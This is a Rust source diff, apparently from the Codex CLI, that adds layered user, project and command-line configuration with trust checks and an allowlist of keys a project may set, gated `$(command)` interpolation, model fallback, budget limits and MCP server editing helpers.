@@ -1,22 +1,33 @@
+use crate::config_interpolation::interpolate_config_values;
+use crate::config_layer::ConfigLayer;
+use crate::config_layer::ConfigOrigins;
 use crate::config_profile::ConfigProfile;
+use crate::config_types::CompactionStrategy;
 use crate::config_types::History;
+use crate::config_types::LinuxSandboxBackend;
 use crate::config_types::McpServerConfig;
+use crate::config_types::ModelConfig;
+use crate::config_types::ModelFallback;
+use crate::config_types::ModelPricing;
 use crate::config_types::Notifications;
 use crate::config_types::ReasoningSummaryFormat;
+use crate::config_types::ResourceLimits;
 use crate::config_types::SandboxWorkspaceWrite;
 use crate::config_types::ShellEnvironmentPolicy;
 use crate::config_types::ShellEnvironmentPolicyToml;
 use crate::config_types::Tui;
 use crate::config_types::UriBasedFileOpener;
+use crate::git_info::get_git_repo_root;
 use crate::git_info::resolve_root_git_project_for_trust;
 use crate::model_family::ModelFamily;
 use crate::model_family::derive_default_model_family;
-use crate::model_family::find_family_for_model;
+use crate::model_family::find_configured_family_for_model;
 use crate::model_provider_info::ModelProviderInfo;
 use crate::model_provider_info::built_in_model_providers;
-use crate::openai_model_info::get_model_info;
+use crate::openai_model_info::get_configured_model_info;
 use crate::protocol::AskForApproval;
 use crate::protocol::SandboxPolicy;
+use crate::resource_limits::check_resource_limits;
 use anyhow::Context;
 use codex_protocol::config_types::ReasoningEffort;
 use codex_protocol::config_types::ReasoningSummary;
@@ -25,11 +36,13 @@ use codex_protocol::config_types::Verbosity;
 use codex_protocol::mcp_protocol::Tools;
 use codex_protocol::mcp_protocol::UserSavedConfig;
 use dirs::home_dir;
+use schemars::JsonSchema;
 use serde::Deserialize;
 use std::collections::BTreeMap;
 use std::collections::HashMap;
 use std::path::Path;
 use std::path::PathBuf;
+use std::time::Duration;
 use tempfile::NamedTempFile;
 use toml::Value as TomlValue;
 use toml_edit::Array as TomlArray;
@@ -46,8 +59,51 @@ pub const GPT_5_CODEX_MEDIUM_MODEL: &str = "gpt-5-codex";
 /// the context window.
 pub(crate) const PROJECT_DOC_MAX_BYTES: usize = 32 * 1024; // 32 KiB
 
+/// Follow-up turns that ask the model to fix a final message that does not
+/// match the turn's output schema, unless configured otherwise.
+const DEFAULT_OUTPUT_SCHEMA_REPAIR_ATTEMPTS: u32 = 2;
+
+/// Most recent user turns left untouched by the history-rewriting compaction
+/// stages, unless configured otherwise.
+const DEFAULT_COMPACTION_KEEP_RECENT_TURNS: usize = 2;
+
 pub(crate) const CONFIG_TOML_FILE: &str = "config.toml";
 
+/// Directory at the root of a project that holds its `config.toml`.
+pub(crate) const PROJECT_CONFIG_DIR: &str = ".codex";
+
+/// Top-level keys a project config may set. Everything that decides what a
+/// command may do or where requests and credentials go (approval and sandbox
+/// settings, the shell environment, providers, `notify`, profiles, trust)
+/// stays under the control of the user's own config and the command line.
+const PROJECT_CONFIG_KEYS: &[&str] = &[
+    "model",
+    "review_model",
+    "model_context_window",
+    "model_max_output_tokens",
+    "model_auto_compact_token_limit",
+    "model_reasoning_effort",
+    "model_reasoning_summary",
+    "model_verbosity",
+    "model_supports_reasoning_summaries",
+    "model_reasoning_summary_format",
+    "models",
+    "model_pricing",
+    "compaction",
+    "compaction_keep_recent_turns",
+    "instructions",
+    "project_doc_max_bytes",
+    "mcp_servers",
+    "tools",
+    "parallel_tool_calls",
+    "max_turn_tool_calls",
+    "max_task_tokens",
+    "max_task_duration",
+    "max_cost_usd",
+    "output_schema_repair_attempts",
+    "hide_agent_reasoning",
+];
+
 /// Application configuration loaded from disk and merged with overrides.
 #[derive(Debug, Clone, PartialEq)]
 pub struct Config {
@@ -68,12 +124,23 @@ pub struct Config {
     /// Token usage threshold triggering auto-compaction of conversation history.
     pub model_auto_compact_token_limit: Option<i64>,
 
+    /// Stages tried, in order, when auto-compaction is triggered.
+    pub compaction: Vec<CompactionStrategy>,
+
+    /// Number of most recent user turns that the compaction stages other
+    /// than `summarize` leave untouched.
+    pub compaction_keep_recent_turns: usize,
+
     /// Key into the model_providers map that specifies which provider to use.
     pub model_provider_id: String,
 
     /// Info needed to make an API request to the model.
     pub model_provider: ModelProviderInfo,
 
+    /// Models to retry a turn with, in order, when the current model fails
+    /// with a usage limit, retry limit or server error.
+    pub fallback: Vec<ModelFallback>,
+
     /// Approval policy for executing commands.
     pub approval_policy: AskForApproval,
 
@@ -81,6 +148,12 @@ pub struct Config {
 
     pub shell_environment_policy: ShellEnvironmentPolicy,
 
+    /// Limits applied to every command the agent runs.
+    pub resource_limits: ResourceLimits,
+
+    /// How sandboxed commands are isolated on Linux.
+    pub linux_sandbox_backend: LinuxSandboxBackend,
+
     /// When `true`, `AgentReasoning` events emitted by the backend will be
     /// suppressed from the frontend output. This can reduce visual noise when
     /// users are only interested in the final agent responses.
@@ -133,6 +206,14 @@ pub struct Config {
     /// Combined provider map (defaults merged with user-defined overrides).
     pub model_providers: HashMap<String, ModelProviderInfo>,
 
+    /// User-defined token prices keyed by model slug. These take precedence
+    /// over the built-in prices.
+    pub model_pricing: HashMap<String, ModelPricing>,
+
+    /// User-defined model capabilities and limits keyed by model slug. These
+    /// take precedence over the built-in model families and limits.
+    pub models: HashMap<String, ModelConfig>,
+
     /// Maximum number of bytes to include from an AGENTS.md project doc file.
     pub project_doc_max_bytes: usize,
 
@@ -187,9 +268,46 @@ pub struct Config {
     /// Include the `view_image` tool that lets the agent attach a local image path to context.
     pub include_view_image_tool: bool,
 
+    /// Include the `delegate_task` tool that lets the agent hand a sub-task to
+    /// a child conversation and receive its final message as the tool output.
+    pub include_delegate_tool: bool,
+
+    /// When `true`, ask the model for parallel tool calls and run the
+    /// independent, read-only calls of a single response concurrently.
+    pub parallel_tool_calls: bool,
+
+    /// Maximum number of tool calls a single task may make. The call that
+    /// would go over it is not run and the task is aborted with
+    /// [`crate::protocol::TurnAbortReason::BudgetExceeded`].
+    pub max_turn_tool_calls: Option<u64>,
+
+    /// Maximum number of output tokens (including reasoning) the model may
+    /// generate over a single task before it is aborted.
+    pub max_task_tokens: Option<u64>,
+
+    /// Maximum wall-clock time a single task may run before it is aborted.
+    /// It is checked between tool calls, so a running command can finish.
+    pub max_task_duration: Option<Duration>,
+
+    /// Maximum estimated cost of the session, in US dollars. The running task
+    /// is aborted once it is exceeded.
+    pub max_cost_usd: Option<f64>,
+
+    /// Number of follow-up turns that ask the model to fix a final message
+    /// that does not match the turn's output schema.
+    pub output_schema_repair_attempts: u32,
+
     /// The active profile name used to derive this `Config` (if any).
     pub active_profile: Option<String>,
 
+    /// Which configuration layer each value came from.
+    pub config_origins: ConfigOrigins,
+
+    /// The overrides this `Config` was loaded with, kept so that it can be
+    /// reloaded when `config.toml` changes. `None` when the `Config` was not
+    /// loaded from disk.
+    pub load_args: Option<ConfigLoadArgs>,
+
     /// When true, disables burst-paste detection for typed input entirely.
     /// All characters are inserted as they are received, and no buffering
     /// or placeholder replacement will occur for fast keypress bursts.
@@ -198,10 +316,11 @@ pub struct Config {
 
 impl Config {
     /// Load configuration with *generic* CLI overrides (`-c key=value`) applied
-    /// **in between** the values parsed from `config.toml` and the
+    /// **in between** the values parsed from the config files and the
     /// strongly-typed overrides specified via [`ConfigOverrides`].
     ///
-    /// The precedence order is therefore: `config.toml` < `-c` overrides <
+    /// The precedence order is therefore: `$CODEX_HOME/config.toml` <
+    /// `.codex/config.toml` of a trusted project < `-c` overrides <
     /// `ConfigOverrides`.
     pub fn load_with_cli_overrides(
         cli_overrides: Vec<(String, TomlValue)>,
@@ -211,14 +330,43 @@ impl Config {
         // value of $CODEX_HOME) so we can embed it into the resulting
         // `Config` instance.
         let codex_home = find_codex_home()?;
+        Self::load_from_codex_home(codex_home, cli_overrides, overrides)
+    }
 
-        // Step 1: parse `config.toml` into a generic JSON value.
-        let mut root_value = load_config_as_toml(&codex_home)?;
+    /// Loads the configuration again from the same files and with the same
+    /// overrides as `self`, keeping the current working directory.
+    pub fn reload(&self) -> std::io::Result<Self> {
+        let Some(ConfigLoadArgs {
+            cli_overrides,
+            mut overrides,
+        }) = self.load_args.clone()
+        else {
+            return Err(std::io::Error::other(
+                "config was not loaded from config.toml",
+            ));
+        };
+        overrides.cwd = Some(self.cwd.clone());
+        Self::load_from_codex_home(self.codex_home.clone(), cli_overrides, overrides)
+    }
 
-        // Step 2: apply the `-c` overrides.
-        for (path, value) in cli_overrides.into_iter() {
-            apply_toml_override(&mut root_value, &path, value);
-        }
+    fn load_from_codex_home(
+        codex_home: PathBuf,
+        cli_overrides: Vec<(String, TomlValue)>,
+        overrides: ConfigOverrides,
+    ) -> std::io::Result<Self> {
+        let load_args = ConfigLoadArgs {
+            cli_overrides: cli_overrides.clone(),
+            overrides: overrides.clone(),
+        };
+
+        // Step 1: merge `config.toml`, the project config and the `-c`
+        // overrides into a generic TOML value.
+        let cwd = resolve_cwd(overrides.cwd.clone())?;
+        let (mut root_value, mut origins) =
+            load_layered_config_as_toml(&codex_home, &cwd, cli_overrides)?;
+
+        // Step 2: expand `${VAR}` and `$(command)` references.
+        interpolate_layered_config(&mut root_value, &mut origins)?;
 
         // Step 3: deserialize into `ConfigToml` so that Serde can enforce the
         // correct types.
@@ -228,7 +376,28 @@ impl Config {
         })?;
 
         // Step 4: merge with the strongly-typed overrides.
-        Self::load_from_base_config_with_overrides(cfg, overrides, codex_home)
+        let flags = [
+            ("model", overrides.model.is_some()),
+            ("review_model", overrides.review_model.is_some()),
+            ("approval_policy", overrides.approval_policy.is_some()),
+            ("sandbox_mode", overrides.sandbox_mode.is_some()),
+            ("model_provider", overrides.model_provider.is_some()),
+            ("profile", overrides.config_profile.is_some()),
+        ];
+        for (key, _) in flags.iter().filter(|(_, is_set)| *is_set) {
+            origins.record_flag(key);
+        }
+        let mut config = Self::load_from_base_config_with_overrides(cfg, overrides, codex_home)?;
+        config.config_origins = origins;
+        config.load_args = Some(load_args);
+        Ok(config)
+    }
+
+    /// Returns the configuration layer that decided the effective value of
+    /// `key`, a dotted `config.toml` path such as `model`.
+    pub fn value_origin(&self, key: &str) -> ConfigLayer {
+        self.config_origins
+            .layer_of(key, self.active_profile.as_deref())
     }
 }
 
@@ -273,10 +442,129 @@ pub fn load_config_as_toml(codex_home: &Path) -> std::io::Result<TomlValue> {
     }
 }
 
+/// Merge `CODEX_HOME/config.toml`, the `.codex/config.toml` of the trusted
+/// project containing `cwd` and the `-c` overrides, in that order, and record
+/// which of them set each key.
+pub fn load_layered_config_as_toml(
+    codex_home: &Path,
+    cwd: &Path,
+    cli_overrides: Vec<(String, TomlValue)>,
+) -> std::io::Result<(TomlValue, ConfigOrigins)> {
+    let mut origins = ConfigOrigins::default();
+    let mut root_value = load_config_as_toml(codex_home)?;
+    origins.record(ConfigLayer::User, "", &root_value);
+
+    if let Some((path, project_value)) = load_project_config_as_toml(&root_value, cwd)? {
+        origins.record(ConfigLayer::Project, "", &project_value);
+        merge_toml_values(&mut root_value, project_value);
+        origins.project_config = Some(path);
+    }
+
+    for (path, value) in cli_overrides.into_iter() {
+        origins.record(ConfigLayer::CommandLine, &path, &value);
+        apply_toml_override(&mut root_value, &path, value);
+    }
+
+    Ok((root_value, origins))
+}
+
+/// Expand the `${VAR}` and `$(command)` references in the merged config and
+/// record which values they produced. A project config cannot opt into
+/// running commands.
+fn interpolate_layered_config(
+    root_value: &mut TomlValue,
+    origins: &mut ConfigOrigins,
+) -> std::io::Result<()> {
+    let allow_commands = root_value
+        .get("interpolate_commands")
+        .and_then(TomlValue::as_bool)
+        .unwrap_or(false)
+        && origins.layer_of("interpolate_commands", None) != ConfigLayer::Project;
+    for key in interpolate_config_values(root_value, allow_commands)? {
+        origins.record_interpolated(key);
+    }
+    Ok(())
+}
+
+/// Read `.codex/config.toml` from the root of the git repository containing
+/// `cwd` and return its path and contents, without the keys that are not in
+/// [`PROJECT_CONFIG_KEYS`]. Returns `None` when there is no such file or when
+/// the project is not trusted in `user_config`.
+fn load_project_config_as_toml(
+    user_config: &TomlValue,
+    cwd: &Path,
+) -> std::io::Result<Option<(PathBuf, TomlValue)>> {
+    let Some((config_path, trusted)) = find_project_config(user_config, cwd) else {
+        return Ok(None);
+    };
+    if !trusted {
+        tracing::info!(
+            "ignoring {} because the project is not trusted",
+            config_path.display()
+        );
+        return Ok(None);
+    }
+
+    let contents = std::fs::read_to_string(&config_path)?;
+    let mut value = toml::from_str::<TomlValue>(&contents).map_err(|e| {
+        tracing::error!("Failed to parse {}: {e}", config_path.display());
+        std::io::Error::new(
+            std::io::ErrorKind::InvalidData,
+            format!("{}: {e}", config_path.display()),
+        )
+    })?;
+    if let TomlValue::Table(table) = &mut value {
+        let ignored: Vec<String> = table
+            .keys()
+            .filter(|key| !PROJECT_CONFIG_KEYS.contains(&key.as_str()))
+            .cloned()
+            .collect();
+        for key in ignored {
+            table.remove(&key);
+            tracing::warn!(
+                "ignoring `{key}` in {}: it can only be set in the user config",
+                config_path.display()
+            );
+        }
+    }
+    Ok(Some((config_path, value)))
+}
+
+/// Locate `.codex/config.toml` at the root of the git repository containing
+/// `cwd`. Returns its path and whether `user_config` trusts the project, or
+/// `None` when there is no such file.
+pub fn find_project_config(user_config: &TomlValue, cwd: &Path) -> Option<(PathBuf, bool)> {
+    let project_root = get_git_repo_root(cwd)?;
+    let config_path = project_root.join(PROJECT_CONFIG_DIR).join(CONFIG_TOML_FILE);
+    if !config_path.is_file() {
+        return None;
+    }
+
+    // Trust is only ever granted by the user's own config.
+    let projects = user_config
+        .get("projects")
+        .cloned()
+        .and_then(|projects| projects.try_into().ok());
+    let user_toml = ConfigToml {
+        projects,
+        ..Default::default()
+    };
+    let trusted = user_toml.is_cwd_trusted(cwd) || user_toml.is_cwd_trusted(&project_root);
+    Some((config_path, trusted))
+}
+
+/// The MCP servers defined in `CODEX_HOME/config.toml`, with the references
+/// of the servers that set `interpolate = true` resolved as they are for a
+/// session.
 pub fn load_global_mcp_servers(
     codex_home: &Path,
 ) -> std::io::Result<BTreeMap<String, McpServerConfig>> {
-    let root_value = load_config_as_toml(codex_home)?;
+    let mut root_value = load_config_as_toml(codex_home)?;
+    let allow_commands = root_value
+        .get("interpolate_commands")
+        .and_then(TomlValue::as_bool)
+        .unwrap_or(false);
+    interpolate_config_values(&mut root_value, allow_commands)?;
     let Some(servers_value) = root_value.get("mcp_servers") else {
         return Ok(BTreeMap::new());
     };
@@ -291,14 +579,7 @@ pub fn write_global_mcp_servers(
     codex_home: &Path,
     servers: &BTreeMap<String, McpServerConfig>,
 ) -> std::io::Result<()> {
-    let config_path = codex_home.join(CONFIG_TOML_FILE);
-    let mut doc = match std::fs::read_to_string(&config_path) {
-        Ok(contents) => contents
-            .parse::<DocumentMut>()
-            .map_err(|e| std::io::Error::new(std::io::ErrorKind::InvalidData, e))?,
-        Err(e) if e.kind() == std::io::ErrorKind::NotFound => DocumentMut::new(),
-        Err(e) => return Err(e),
-    };
+    let mut doc = read_config_document(codex_home)?;
 
     doc.as_table_mut().remove("mcp_servers");
 
@@ -308,48 +589,105 @@ pub fn write_global_mcp_servers(
         doc["mcp_servers"] = TomlItem::Table(table);
 
         for (name, config) in servers {
-            let mut entry = TomlTable::new();
-            entry.set_implicit(false);
-            entry["command"] = toml_edit::value(config.command.clone());
-
-            if !config.args.is_empty() {
-                let mut args = TomlArray::new();
-                for arg in &config.args {
-                    args.push(arg.clone());
-                }
-                entry["args"] = TomlItem::Value(args.into());
-            }
+            doc["mcp_servers"][name.as_str()] = TomlItem::Table(mcp_server_table(config));
+        }
+    }
 
-            if let Some(env) = &config.env
-                && !env.is_empty()
-            {
-                let mut env_table = TomlTable::new();
-                env_table.set_implicit(false);
-                let mut pairs: Vec<_> = env.iter().collect();
-                pairs.sort_by(|(a, _), (b, _)| a.cmp(b));
-                for (key, value) in pairs {
-                    env_table.insert(key, toml_edit::value(value.clone()));
-                }
-                entry["env"] = TomlItem::Table(env_table);
-            }
+    write_config_document(codex_home, &doc)
+}
 
-            if let Some(timeout) = config.startup_timeout_sec {
-                entry["startup_timeout_sec"] = toml_edit::value(timeout.as_secs_f64());
-            }
+/// Adds the MCP server `name` to `CODEX_HOME/config.toml`, replacing any
+/// server of that name. The other servers are left as written, so their
+/// `${VAR}` references are not resolved into the file.
+pub fn add_global_mcp_server(
+    codex_home: &Path,
+    name: &str,
+    config: &McpServerConfig,
+) -> std::io::Result<()> {
+    let mut doc = read_config_document(codex_home)?;
+    if !doc.contains_table("mcp_servers") {
+        let mut table = TomlTable::new();
+        table.set_implicit(true);
+        doc["mcp_servers"] = TomlItem::Table(table);
+    }
+    doc["mcp_servers"][name] = TomlItem::Table(mcp_server_table(config));
+    write_config_document(codex_home, &doc)
+}
 
-            if let Some(timeout) = config.tool_timeout_sec {
-                entry["tool_timeout_sec"] = toml_edit::value(timeout.as_secs_f64());
-            }
+/// Removes the MCP server `name` from `CODEX_HOME/config.toml`. Returns
+/// whether there was such a server.
+pub fn remove_global_mcp_server(codex_home: &Path, name: &str) -> std::io::Result<bool> {
+    let mut doc = read_config_document(codex_home)?;
+    let removed = doc
+        .get_mut("mcp_servers")
+        .and_then(TomlItem::as_table_like_mut)
+        .and_then(|servers| servers.remove(name))
+        .is_some();
+    if removed {
+        write_config_document(codex_home, &doc)?;
+    }
+    Ok(removed)
+}
 
-            doc["mcp_servers"][name.as_str()] = TomlItem::Table(entry);
+fn mcp_server_table(config: &McpServerConfig) -> TomlTable {
+    let mut entry = TomlTable::new();
+    entry.set_implicit(false);
+    entry["command"] = toml_edit::value(config.command.clone());
+
+    if !config.args.is_empty() {
+        let mut args = TomlArray::new();
+        for arg in &config.args {
+            args.push(arg.clone());
+        }
+        entry["args"] = TomlItem::Value(args.into());
+    }
+
+    if config.interpolate {
+        entry["interpolate"] = toml_edit::value(true);
+    }
+
+    if let Some(env) = &config.env
+        && !env.is_empty()
+    {
+        let mut env_table = TomlTable::new();
+        env_table.set_implicit(false);
+        let mut pairs: Vec<_> = env.iter().collect();
+        pairs.sort_by(|(a, _), (b, _)| a.cmp(b));
+        for (key, value) in pairs {
+            env_table.insert(key, toml_edit::value(value.clone()));
         }
+        entry["env"] = TomlItem::Table(env_table);
     }
 
+    if let Some(timeout) = config.startup_timeout_sec {
+        entry["startup_timeout_sec"] = toml_edit::value(timeout.as_secs_f64());
+    }
+
+    if let Some(timeout) = config.tool_timeout_sec {
+        entry["tool_timeout_sec"] = toml_edit::value(timeout.as_secs_f64());
+    }
+
+    entry
+}
+
+fn read_config_document(codex_home: &Path) -> std::io::Result<DocumentMut> {
+    let config_path = codex_home.join(CONFIG_TOML_FILE);
+    match std::fs::read_to_string(&config_path) {
+        Ok(contents) => contents
+            .parse::<DocumentMut>()
+            .map_err(|e| std::io::Error::new(std::io::ErrorKind::InvalidData, e)),
+        Err(e) if e.kind() == std::io::ErrorKind::NotFound => Ok(DocumentMut::new()),
+        Err(e) => Err(e),
+    }
+}
+
+fn write_config_document(codex_home: &Path, doc: &DocumentMut) -> std::io::Result<()> {
     std::fs::create_dir_all(codex_home)?;
     let tmp_file = NamedTempFile::new_in(codex_home)?;
     std::fs::write(tmp_file.path(), doc.to_string())?;
-    tmp_file.persist(config_path).map_err(|err| err.error)?;
-
+    tmp_file
+        .persist(codex_home.join(CONFIG_TOML_FILE))
+        .map_err(|err| err.error)?;
     Ok(())
 }
 
@@ -555,6 +893,24 @@ pub async fn persist_model_selection(
     Ok(())
 }
 
+/// Merge `overlay` into `base`: tables are merged key by key, any other value
+/// in `overlay` replaces the one in `base`.
+fn merge_toml_values(base: &mut TomlValue, overlay: TomlValue) {
+    match (base, overlay) {
+        (TomlValue::Table(base), TomlValue::Table(overlay)) => {
+            for (key, value) in overlay {
+                match base.get_mut(&key) {
+                    Some(existing) => merge_toml_values(existing, value),
+                    None => {
+                        base.insert(key, value);
+                    }
+                }
+            }
+        }
+        (base, overlay) => *base = overlay,
+    }
+}
+
 /// Apply a single dotted-path override onto a TOML value.
 fn apply_toml_override(root: &mut TomlValue, path: &str, value: TomlValue) {
     use toml::value::Table;
@@ -599,7 +955,7 @@ fn apply_toml_override(root: &mut TomlValue, path: &str, value: TomlValue) {
 }
 
 /// Base config deserialized from ~/.codex/config.toml.
-#[derive(Deserialize, Debug, Clone, Default, PartialEq)]
+#[derive(Deserialize, JsonSchema, Debug, Clone, Default, PartialEq)]
 pub struct ConfigToml {
     /// Optional override of model selection.
     pub model: Option<String>,
@@ -609,6 +965,10 @@ pub struct ConfigToml {
     /// Provider to use from the model_providers map.
     pub model_provider: Option<String>,
 
+    /// Models to fall back to, in order, when a turn fails because the
+    /// current model is rate limited or unavailable.
+    pub fallback: Option<Vec<ModelFallback>>,
+
     /// Size of the context window for the model, in tokens.
     pub model_context_window: Option<u64>,
 
@@ -618,12 +978,28 @@ pub struct ConfigToml {
     /// Token usage threshold triggering auto-compaction of conversation history.
     pub model_auto_compact_token_limit: Option<i64>,
 
+    /// Compaction stages to try, in order, when the auto-compact limit is
+    /// reached. Defaults to every stage, ending with `summarize`.
+    pub compaction: Option<Vec<CompactionStrategy>>,
+
+    /// Number of most recent user turns that the compaction stages other
+    /// than `summarize` leave untouched. Defaults to 2.
+    pub compaction_keep_recent_turns: Option<usize>,
+
     /// Default approval policy for executing commands.
     pub approval_policy: Option<AskForApproval>,
 
     #[serde(default)]
     pub shell_environment_policy: ShellEnvironmentPolicyToml,
 
+    /// Limits applied to every command the agent runs.
+    #[serde(default)]
+    pub resource_limits: ResourceLimits,
+
+    /// How sandboxed commands are isolated on Linux.
+    #[serde(default)]
+    pub linux_sandbox_backend: LinuxSandboxBackend,
+
     /// Sandbox mode to use.
     pub sandbox_mode: Option<SandboxMode>,
 
@@ -645,6 +1021,16 @@ pub struct ConfigToml {
     #[serde(default)]
     pub model_providers: HashMap<String, ModelProviderInfo>,
 
+    /// Token prices, in US dollars per million tokens, keyed by model slug.
+    /// Overrides the built-in prices used to estimate cost.
+    #[serde(default)]
+    pub model_pricing: HashMap<String, ModelPricing>,
+
+    /// Capabilities and limits of models, keyed by model slug. Merged over
+    /// the built-in values so that self-hosted and new models work well.
+    #[serde(default)]
+    pub models: HashMap<String, ModelConfig>,
+
     /// Maximum number of bytes to include from an AGENTS.md project doc file.
     pub project_doc_max_bytes: Option<usize>,
 
@@ -694,6 +1080,28 @@ pub struct ConfigToml {
     pub experimental_use_exec_command_tool: Option<bool>,
     pub experimental_use_unified_exec_tool: Option<bool>,
 
+    /// Request parallel tool calls from the model and execute independent,
+    /// read-only calls concurrently. Defaults to `false`.
+    pub parallel_tool_calls: Option<bool>,
+
+    /// Abort a task once it has made more than this many tool calls.
+    pub max_turn_tool_calls: Option<u64>,
+
+    /// Abort a task once the model has generated more than this many output
+    /// tokens for it.
+    pub max_task_tokens: Option<u64>,
+
+    /// Abort a task once it has run for more than this many seconds.
+    pub max_task_duration: Option<u64>,
+
+    /// Abort the running task once the session's estimated cost exceeds this
+    /// many US dollars.
+    pub max_cost_usd: Option<f64>,
+
+    /// Follow-up turns that ask the model to fix a final message that does
+    /// not match the output schema. Defaults to 2.
+    pub output_schema_repair_attempts: Option<u32>,
+
     pub projects: Option<HashMap<String, ProjectConfig>>,
 
     /// Nested tools section for feature toggles
@@ -703,6 +1111,10 @@ pub struct ConfigToml {
     /// All characters are inserted as they are received, and no buffering
     /// or placeholder replacement will occur for fast keypress bursts.
     pub disable_paste_burst: Option<bool>,
+
+    /// Allow `$(command)` references in interpolated values such as
+    /// `mcp_servers.<name>.env`. Ignored when set by a project config.
+    pub interpolate_commands: Option<bool>,
 }
 
 impl From<ConfigToml> for UserSavedConfig {
@@ -728,12 +1140,12 @@ impl From<ConfigToml> for UserSavedConfig {
     }
 }
 
-#[derive(Deserialize, Debug, Clone, PartialEq, Eq)]
+#[derive(Deserialize, JsonSchema, Debug, Clone, PartialEq, Eq)]
 pub struct ProjectConfig {
     pub trust_level: Option<String>,
 }
 
-#[derive(Deserialize, Debug, Clone, Default, PartialEq)]
+#[derive(Deserialize, JsonSchema, Debug, Clone, Default, PartialEq)]
 pub struct ToolsToml {
     #[serde(default, alias = "web_search_request")]
     pub web_search: Option<bool>,
@@ -741,6 +1153,10 @@ pub struct ToolsToml {
     /// Enable the `view_image` tool that lets the agent attach local images.
     #[serde(default)]
     pub view_image: Option<bool>,
+
+    /// Enable the `delegate_task` tool that lets the agent spawn sub-agents.
+    #[serde(default)]
+    pub delegate: Option<bool>,
 }
 
 impl From<ToolsToml> for Tools {
@@ -766,11 +1182,16 @@ impl ConfigToml {
                     network_access,
                     exclude_tmpdir_env_var,
                     exclude_slash_tmp,
+                    restrict_read_access,
+                    readable_roots,
+                    allowed_domains,
                 }) => SandboxPolicy::WorkspaceWrite {
                     writable_roots: writable_roots.clone(),
                     network_access: *network_access,
                     exclude_tmpdir_env_var: *exclude_tmpdir_env_var,
                     exclude_slash_tmp: *exclude_slash_tmp,
+                    readable_roots: restrict_read_access.then(|| readable_roots.clone()),
+                    allowed_domains: allowed_domains.clone(),
                 },
                 None => SandboxPolicy::new_workspace_write_policy(),
             },
@@ -826,8 +1247,15 @@ impl ConfigToml {
     }
 }
 
+/// The arguments passed to [`Config::load_with_cli_overrides`].
+#[derive(Debug, Clone, PartialEq)]
+pub struct ConfigLoadArgs {
+    pub cli_overrides: Vec<(String, TomlValue)>,
+    pub overrides: ConfigOverrides,
+}
+
 /// Optional overrides for user configuration (e.g., from CLI flags).
-#[derive(Default, Debug, Clone)]
+#[derive(Default, Debug, Clone, PartialEq)]
 pub struct ConfigOverrides {
     pub model: Option<String>,
     pub review_model: Option<String>,
@@ -843,6 +1271,10 @@ pub struct ConfigOverrides {
     pub include_view_image_tool: Option<bool>,
     pub show_raw_agent_reasoning: Option<bool>,
     pub tools_web_search_request: Option<bool>,
+    pub max_turn_tool_calls: Option<u64>,
+    pub max_task_tokens: Option<u64>,
+    pub max_task_duration: Option<Duration>,
+    pub output_schema_repair_attempts: Option<u32>,
 }
 
 impl Config {
@@ -871,6 +1303,10 @@ impl Config {
             include_view_image_tool,
             show_raw_agent_reasoning,
             tools_web_search_request: override_tools_web_search_request,
+            max_turn_tool_calls,
+            max_task_tokens,
+            max_task_duration,
+            output_schema_repair_attempts,
         } = overrides;
 
         let active_profile_name = config_profile_key
@@ -913,26 +1349,25 @@ impl Config {
             })?
             .clone();
 
-        let shell_environment_policy = cfg.shell_environment_policy.into();
+        let fallback = cfg.fallback.unwrap_or_default();
+        if let Some(unknown) = fallback
+            .iter()
+            .find(|entry| !model_providers.contains_key(&entry.model_provider))
+        {
+            return Err(std::io::Error::new(
+                std::io::ErrorKind::NotFound,
+                format!(
+                    "Model provider `{}` in `fallback` not found",
+                    unknown.model_provider
+                ),
+            ));
+        }
 
-        let resolved_cwd = {
-            use std::env;
+        check_resource_limits(&cfg.resource_limits)?;
 
-            match cwd {
-                None => {
-                    tracing::info!("cwd not set, using current dir");
-                    env::current_dir()?
-                }
-                Some(p) if p.is_absolute() => p,
-                Some(p) => {
-                    // Resolve relative path against the current working directory.
-                    tracing::info!("cwd is relative, resolving against current dir");
-                    let mut current = env::current_dir()?;
-                    current.push(p);
-                    current
-                }
-            }
-        };
+        let shell_environment_policy = cfg.shell_environment_policy.into();
+
+        let resolved_cwd = resolve_cwd(cwd)?;
 
         let history = cfg.history.unwrap_or_default();
 
@@ -944,13 +1379,23 @@ impl Config {
             .or(cfg.tools.as_ref().and_then(|t| t.view_image))
             .unwrap_or(true);
 
+        let include_delegate_tool = cfg.tools.as_ref().and_then(|t| t.delegate).unwrap_or(false);
+
         let model = model
             .or(config_profile.model)
             .or(cfg.model)
             .unwrap_or_else(default_model);
 
-        let mut model_family =
-            find_family_for_model(&model).unwrap_or_else(|| derive_default_model_family(&model));
+        let mut models = cfg.models;
+        for model_config in models.values_mut() {
+            model_config.base_instructions = Self::get_base_instructions(
+                model_config.base_instructions_file.as_ref(),
+                &resolved_cwd,
+            )?;
+        }
+
+        let mut model_family = find_configured_family_for_model(&model, &models)
+            .unwrap_or_else(|| derive_default_model_family(&model));
 
         if let Some(supports_reasoning_summaries) = cfg.model_supports_reasoning_summaries {
             model_family.supports_reasoning_summaries = supports_reasoning_summaries;
@@ -959,14 +1404,14 @@ impl Config {
             model_family.reasoning_summary_format = model_reasoning_summary_format;
         }
 
-        let openai_model_info = get_model_info(&model_family);
+        let openai_model_info = get_configured_model_info(&model_family, &models);
         let model_context_window = cfg
             .model_context_window
             .or_else(|| openai_model_info.as_ref().map(|info| info.context_window));
         let model_max_output_tokens = cfg.model_max_output_tokens.or_else(|| {
             openai_model_info
                 .as_ref()
-                .map(|info| info.max_output_tokens)
+                .and_then(|info| info.max_output_tokens)
         });
         let model_auto_compact_token_limit = cfg.model_auto_compact_token_limit.or_else(|| {
             openai_model_info
@@ -997,8 +1442,15 @@ impl Config {
             model_context_window,
             model_max_output_tokens,
             model_auto_compact_token_limit,
+            compaction: cfg
+                .compaction
+                .unwrap_or_else(CompactionStrategy::default_pipeline),
+            compaction_keep_recent_turns: cfg
+                .compaction_keep_recent_turns
+                .unwrap_or(DEFAULT_COMPACTION_KEEP_RECENT_TURNS),
             model_provider_id,
             model_provider,
+            fallback,
             cwd: resolved_cwd,
             approval_policy: approval_policy
                 .or(config_profile.approval_policy)
@@ -1006,11 +1458,15 @@ impl Config {
                 .unwrap_or_else(AskForApproval::default),
             sandbox_policy,
             shell_environment_policy,
+            resource_limits: cfg.resource_limits,
+            linux_sandbox_backend: cfg.linux_sandbox_backend,
             notify: cfg.notify,
             user_instructions,
             base_instructions,
             mcp_servers: cfg.mcp_servers,
             model_providers,
+            model_pricing: cfg.model_pricing,
+            models,
             project_doc_max_bytes: cfg.project_doc_max_bytes.unwrap_or(PROJECT_DOC_MAX_BYTES),
             codex_home,
             history,
